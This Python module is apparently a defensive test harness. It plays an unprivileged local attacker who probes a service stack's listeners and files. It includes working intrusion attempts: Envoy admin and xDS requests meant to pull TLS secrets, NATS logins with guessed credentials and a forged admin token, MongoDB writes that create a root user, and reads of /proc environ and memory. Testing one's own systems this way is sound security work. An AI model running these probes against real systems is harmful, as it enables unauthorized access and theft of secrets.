"""An attacker with an account on the host and no credentials, who tries every listener of a stack and every file.

Run as `python stranger.py` with a `Plan` on stdin; attempts and received bytes are written as JSON to stdout. Started
by root it becomes `nobody` first; otherwise it keeps its user, who may read files and /proc. Invariant: it uses only
public knowledge (addresses, paths, names of workloads) and no secret.
"""

import json
import os
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import msgspec
import pymongo
import pymongo.errors
from envoy_data_plane.envoy.config.core.v3 import Node
from envoy_data_plane.envoy.service.discovery.v3 import DeltaDiscoveryRequest, DiscoveryRequest

from rig.intruders.listeners import Listener

NOBODY = 65534
_PATIENCE_S = 1.0
_AT_ONCE = 100
_TYPES = ("envoy.extensions.transport_sockets.tls.v3.Secret", "envoy.config.cluster.v3.Cluster")
_SERVICE = "/envoy.service.discovery.v3.AggregatedDiscoveryService/"
_ASKED = ("/v1/tokens", "/v1/designs", "/v1/events", "/v1/webhooks", "/v1/operations", "/v1/whoami")
_ADMIN = ("/server_info", "/config_dump", "/certs", "/clusters", "/stats")
"""what Envoy's administration answers"""


Attempt = Callable[[], tuple[bool, str]]
"""Tries one thing: whether it got in, and what it heard."""


class Plan(msgspec.Struct, frozen=True, kw_only=True):
    """What there is to try."""

    listeners: list[Listener]
    nodes: list[str]
    """ids of proxies, as anybody can guess them"""
    folders: list[str]
    files: list[str]
    pids: list[int]


class Try(msgspec.Struct, frozen=True, kw_only=True):
    """One attempt: its target, its kind, whether it succeeded, and every received byte."""

    listener: str
    attack: str
    entered: bool
    heard: str


def main() -> None:
    """Drop root's privileges, try everything, report it."""
    plan = msgspec.json.decode(sys.stdin.buffer.read(), type=Plan)
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    attacks = [(listener, *one) for listener in plan.listeners for one in _attacks(plan, listener).items()]
    with ThreadPoolExecutor(_AT_ONCE) as pool:
        tried = list(pool.map(lambda one: _try(*one), attacks))
    sys.stdout.buffer.write(msgspec.json.encode([*tried, *_read_all(plan)]))


def _try(listener: Listener, attack: str, attempt: Attempt) -> Try:
    name = (
        f"{listener.process} {listener.host}:{listener.port}"
        if listener.port
        else f"{listener.process} {listener.path}"
    )
    try:
        entered, heard = attempt()
    except (OSError, pymongo.errors.PyMongoError, h2.exceptions.ProtocolError) as error:
        entered, heard = False, f"{type(error).__name__}: {error}"
    return Try(listener=name, attack=attack, entered=entered, heard=heard)


def _read_all(plan: Plan) -> Iterator[Try]:
    for path in [*plan.files, *_walked(plan.folders)]:
        yield _opened(path)
    for pid in plan.pids:
        yield msgspec.structs.replace(_opened(f"/proc/{pid}/cmdline"), entered=False)  # for everybody's eyes
        for private in ("environ", "mem", "maps", "fd/0", "root/etc/hostname"):
            yield _opened(f"/proc/{pid}/{private}")


def _opened(path: str) -> Try:
    try:
        with open(path, "rb") as stream:  # noqa: PTH123 - a path of /proc as it is
            return Try(listener=path, attack="open", entered=True, heard=stream.read(1 << 20).decode("latin-1"))
    except OSError as error:
        return Try(listener=path, attack="open", entered=False, heard=str(error))


def _attacks(plan: Plan, listener: Listener) -> dict[str, Attempt]:
    if listener.path:
        return {"http": lambda: _http(listener, _ADMIN), "nats": lambda: _nats(listener, {})}
    result: dict[str, Attempt] = {
        "admin": lambda: _http(listener, _ADMIN),
        "api": lambda: _http(listener, _ASKED),
        "nats": lambda: _nats(listener, {}),
        "nats as the api": lambda: _nats(listener, {"user": "api", "pass": ""}),
        "nats as the system": lambda: _nats(listener, {"user": "$SYS", "pass": "admin"}),
        "xds": lambda: _xds(plan, listener, tls=False),
        "xds by tls": lambda: _xds(plan, listener, tls=True),
    }
    if listener.process == "mongod":  # its driver is slow to give up on anybody else
        result["mongodb"] = lambda: _mongodb(listener)
    return result


def _connected(listener: Listener, *, tls: bool = False, protocols: tuple[str, ...] = ()) -> socket.socket:
    if listener.path:
        result = socket.socket(socket.AF_UNIX)
        result.settimeout(_PATIENCE_S)
        result.connect("\0" + listener.path[1:] if listener.path.startswith("@") else listener.path)
        return result
    result = socket.create_connection((listener.host, listener.port), timeout=_PATIENCE_S)
    if not tls:
        return result
    tls_context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls_context.check_hostname, tls_context.verify_mode = False, ssl.CERT_NONE
    tls_context.set_alpn_protocols(list(protocols))
    return tls_context.wrap_socket(result, server_hostname="localhost")


def _heard(connection: socket.socket, most: int = 1 << 20) -> bytes:
    parts, size, until = [], 0, time.monotonic() + 3 * _PATIENCE_S
    while size < most and time.monotonic() < until:
        try:
            part = connection.recv(65536)
        except (TimeoutError, ConnectionError):
            break
        if not part:
            break
        parts.append(part)
        size += len(part)
    return b"".join(parts)


def _http(listener: Listener, paths: tuple[str, ...]) -> tuple[bool, str]:
    """In: a listener of ours gives what it is for, as Envoy's administration or as the API."""
    told, entered = [], False
    for path in paths:
        with _connected(listener) as connection:
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
            answer = _heard(connection).decode("latin-1")
        told.append(answer)
        if not answer.startswith("HTTP/"):
            break  # it speaks something else
        fine = answer.startswith("HTTP/1.1 200")
        entered |= fine and ("hot_restart_version" in answer or '"items"' in answer or '"role"' in answer)
    return entered, "\n".join(told)


def _nats(listener: Listener, credentials: dict[str, str]) -> tuple[bool, str]:
    """In: the server answers a ping, or takes a token of ours."""
    with _connected(listener) as connection:
        told = connection.recv(65536)
        if not told.startswith(b"INFO"):
            return False, told.decode("latin-1")
        connect = json.dumps({"verbose": False, "pedantic": False, "headers": True, **credentials}).encode()
        forged = b'{"document":{"id":"evil","sha256":"00","role":"admin","workspace":"*"},"principal":"nobody"}'
        asked = b"PUB mw.state.system.token.evil %d\r\n%b\r\n" % (len(forged), forged)
        stored = b"PUB $JS.API.STREAM.NAMES _INBOX.x 0\r\n\r\n"
        connection.sendall(b"CONNECT " + connect + b"\r\nSUB > 1\r\nSUB _INBOX.> 2\r\n" + asked + stored + b"PING\r\n")
        told += _heard(connection)
    return b"PONG" in told, told.decode("latin-1")


def _mongodb(listener: Listener) -> tuple[bool, str]:
    """In: it lists, reads or writes anything."""
    told, entered = "", False
    with pymongo.MongoClient[dict[str, Any]](
        listener.host, listener.port, directConnection=True, serverSelectionTimeoutMS=2000, socketTimeoutMS=2000
    ) as client:
        told += str(client.admin.command("hello"))
        for attempt in (
            client.list_database_names,
            lambda: client.meshwright.operations.find_one(),
            lambda: client.local["oplog.rs"].find_one(),
            lambda: client.evil.evil.insert_one({"a": 1}),
            lambda: client.admin.command("getParameter", "*"),
            lambda: client.admin.command("createUser", "evil", pwd="evil", roles=["root"]),
        ):
            try:
                told += str(attempt())
                entered = True
            except pymongo.errors.PyMongoError as error:
                told += str(error)
    return entered, told


def _xds(plan: Plan, listener: Listener, *, tls: bool) -> tuple[bool, str]:
    """In: any resource is sent to who shows nothing but a proxy's name."""
    told, entered = b"", False
    for node in plan.nodes[:2]:
        for method in ("StreamAggregatedResources", "DeltaAggregatedResources"):
            with _connected(listener, tls=tls, protocols=("h2",)) as connection:
                data, heard = _called(connection, _SERVICE + method, _asking(node, method))
            told += heard
            entered |= bool(data)
            if not heard:
                return entered, told.decode("latin-1")  # it speaks something else
    return entered, told.decode("latin-1")


def _asking(node: str, method: str) -> list[bytes]:
    who = Node(id=node, cluster=node.rpartition(".")[2])
    urls = [f"type.googleapis.com/{name}" for name in _TYPES]
    if method.startswith("Delta"):
        return [bytes(DeltaDiscoveryRequest(node=who, type_url=url, resource_names_subscribe=["*"])) for url in urls]
    return [bytes(DiscoveryRequest(node=who, type_url=url)) for url in urls]


def _called(connection: socket.socket, method: str, messages: list[bytes]) -> tuple[bytes, bytes]:
    """The response of a gRPC call, and all received bytes (https://grpc.io, PROTOCOL-HTTP2)."""
    protocol = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    protocol.initiate_connection()
    headers = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "localhost"}
    headers |= {"te": "trailers", "content-type": "application/grpc"}
    protocol.send_headers(1, list(headers.items()))
    for message in messages:
        protocol.send_data(1, b"\0" + len(message).to_bytes(4, "big") + message)
    connection.sendall(protocol.data_to_send())
    data = heard = b""
    until = time.monotonic() + 3 * _PATIENCE_S
    while time.monotonic() < until and (part := _heard(connection, 1)):
        heard += part
        for event in protocol.receive_data(part):
            if isinstance(event, h2.events.DataReceived):
                data += event.data
                protocol.acknowledge_received_data(event.flow_controlled_length, 1)
            elif isinstance(event, h2.events.StreamEnded | h2.events.StreamReset | h2.events.ConnectionTerminated):
                return data, heard
        connection.sendall(protocol.data_to_send())
    return data, heard


def _walked(folders: list[str]) -> Iterator[str]:
    for folder in folders:
        for path, _, files in os.walk(folder):
            yield from (str(Path(path, file)) for file in files)


if __name__ == "__main__":
    main()
